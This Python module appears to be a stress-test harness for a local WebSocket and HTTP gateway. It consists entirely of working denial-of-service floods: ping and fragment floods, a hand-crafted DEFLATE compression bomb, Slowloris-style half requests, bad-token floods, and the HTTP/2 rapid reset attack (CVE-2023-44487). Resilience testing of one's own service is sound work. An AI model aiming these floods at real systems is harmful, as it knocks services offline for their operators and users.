"""Floods: each function attacks the gateway at `port` without an end, and counts in `done` what it has thrown at it."""

import socket
import struct

UPGRADE = (b"GET /ws/room/attackers/ HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n%s\r\n")
COMPRESSION = b"Sec-WebSocket-Extensions: permessage-deflate\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"


def connect(port):
    connection = socket.create_connection(("127.0.0.1", port))
    connection.settimeout(0)
    return connection


def join(port, fields=b""):
    connection = socket.create_connection(("127.0.0.1", port))
    connection.sendall(UPGRADE % fields)
    received = b""
    while b"connection_established" not in received:
        part = connection.recv(65536)
        if not part:
            raise ConnectionError(received)
        received += part
    connection.settimeout(0)
    return connection


def frame(opcode, payload, final=True, reserved=0):
    """A client's frame, its mask all zeros."""
    head = bytes([(0x80 if final else 0) | reserved << 4 | opcode])
    if len(payload) < 126:
        head += bytes([0x80 | len(payload)])
    else:
        head += bytes([0xFE]) + struct.pack(">H", len(payload))
    return head + b"\0\0\0\0" + payload


def drain(connection):
    """Reads what there is; False at the end of the connection."""
    try:
        while True:
            part = connection.recv(1 << 20)
            if not part:
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def pour(port, done, open_connection, data, count):
    """Sends `data`, which is `count` things, again and again; reads the answers; comes back when it is thrown out."""
    connection = open_connection(port)
    rest = data
    while True:
        try:
            sent = connection.send(rest)
            rest = rest[sent:]
            if not rest:
                rest = data
                done.value += count
        except BlockingIOError:
            pass
        except OSError:
            connection.close()
            connection, rest = open_connection(port), data
        if not drain(connection):
            connection.close()
            connection, rest = open_connection(port), data


def pings(port, done):
    pour(port, done, join, frame(9, b"x" * 100) * 500, 500)


def pongs(port, done):
    pour(port, done, join, frame(10, b"x" * 100) * 500, 500)


def fragments(port, done):
    pour(port, done, join, frame(1, b"", False) + frame(0, b"", False) * 1000 + frame(0, b"{}"), 1000)


def publications(port, done):
    pour(port, done, join, frame(1, b'{"type":"chat_message"}') * 500, 500)


def presence(port, done):
    text = b"".join(frame(1, b'{"type":"presence_update","meta":{"page":%d}}' % page) for page in range(500))
    pour(port, done, join, text, 500)


def joins(port, done):
    pair = frame(1, b'{"type":"subscribe","path":"/ws/room/flood/"}') \
        + frame(1, b'{"type":"unsubscribe","group":"room_flood"}')
    pour(port, done, join, pair * 250, 500)


def bombs(port, done):
    # A stored block of one byte, then fixed codes: 258 copies of it, again and again (RFC 1951).
    bits = [0, 1, 0] + [int(bit) for bit in f"{0x30 + 0x20:08b}"] + [int(bit) for bit in "1100010100000"] * 80_000
    data = bytearray((len(bits) + 7) // 8)
    for index, bit in enumerate(bits):
        data[index // 8] |= bit << index % 8
    bomb = bytes(data)
    parts = [bomb[start:start + 60_000] for start in range(0, len(bomb), 60_000)]
    message = b"".join(
        frame(1 if number == 0 else 0, part, number == len(parts) - 1, 4 if number == 0 else 0)
        for number, part in enumerate(parts))
    pour(port, done, lambda port: join(port, COMPRESSION), message, 1)


def requests(port, done):
    pour(port, done, connect, b"GET /nothing HTTP/1.1\r\nHost: a\r\n\r\n" * 500, 500)


def tokens(port, done):
    request = b"GET /sse/ws/private/1/?token=eyJhbGciOiJIUzI1NiJ9.e30.AAAA HTTP/1.1\r\nHost: a\r\n\r\n"
    pour(port, done, connect, request * 500, 500)


def handshakes(port, done):
    """Opens WebSockets and leaves."""
    while True:
        join(port).close()
        done.value += 1


def slow(port, done):
    """Keeps hundreds of half requests, a byte at a time."""
    connections = []
    while True:
        while len(connections) < 300:
            connections.append(connect(port))
        for connection in list(connections):
            try:
                connection.send(b"G")
                done.value += 1
            except BlockingIOError:
                pass
            except OSError:
                connection.close()
                connections.remove(connection)


def resets(port, done):
    """HTTP/2's rapid reset (CVE-2023-44487), anew whenever it is sent away."""
    block = b"\x82\x86\x84\x01\x01a"  # GET, http, /, and the authority a
    data = PREFACE
    for stream in range(1, 1001, 2):
        data += b"\0\0" + bytes([len(block)]) + b"\1\5" + struct.pack(">I", stream) + block
        data += b"\0\0\4\3\0" + struct.pack(">II", stream, 8)
    while True:
        connection = connect(port)
        try:
            connection.settimeout(5)
            connection.sendall(data)
            while connection.recv(65536):
                pass
        except OSError:
            pass
        connection.close()
        done.value += 500


FLOODS = {
    "pings": pings, "pongs": pongs, "empty fragments": fragments, "publications above the rate": publications,
    "presence updates": presence, "joins and leaves": joins, "compression bombs": bombs, "requests": requests,
    "bad tokens": tokens, "WebSockets that come and go": handshakes, "half requests": slow, "HTTP/2 resets": resets,
}
